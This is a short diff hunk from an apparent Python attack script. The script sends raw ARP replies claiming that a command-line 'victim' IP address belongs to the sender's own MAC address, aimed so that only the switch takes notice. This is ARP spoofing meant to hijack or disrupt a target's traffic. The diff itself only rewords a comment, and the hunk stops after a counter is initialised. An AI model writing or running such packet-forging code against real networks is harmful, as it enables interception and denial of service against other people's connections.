@@ -20,7 +20,7 @@ import select, socket, struct, sys, time
 end = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
 end.bind(("e0", 0))
 own, victim = end.getsockname()[4], socket.inet_aton(sys.argv[1])
-# To nobody, so that only the switch takes notice.
+# To no host, so that only the switch takes notice.
 head = b"\\x02\\xee\\0\\0\\0\\1" + own + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
 claim = head + own + victim + own + victim
 got = 0
